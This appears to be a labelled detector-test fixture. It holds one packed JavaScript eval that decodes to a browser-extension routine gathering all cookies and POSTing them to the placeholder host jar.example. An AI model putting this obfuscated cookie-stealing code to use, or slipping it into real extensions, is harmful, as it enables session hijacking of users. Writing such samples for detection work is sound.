// expect: session-cookies-taken, obfuscated-code
eval(function (p, a, c, k, e, d) { while (c--) { if (k[c]) { p = p.replace(new RegExp('\\b' + c.toString(a) + '\\b', 'g'), k[c]); } } return p; }('0.1.2({},(3)=>{4("5://6.7/8",{9:"a",b:c.d(3)})});', 14, 14, 'chrome|cookies|getAll|all|fetch|https|jar|example|in|method|POST|body|JSON|stringify'.split('|'), 0, {}));
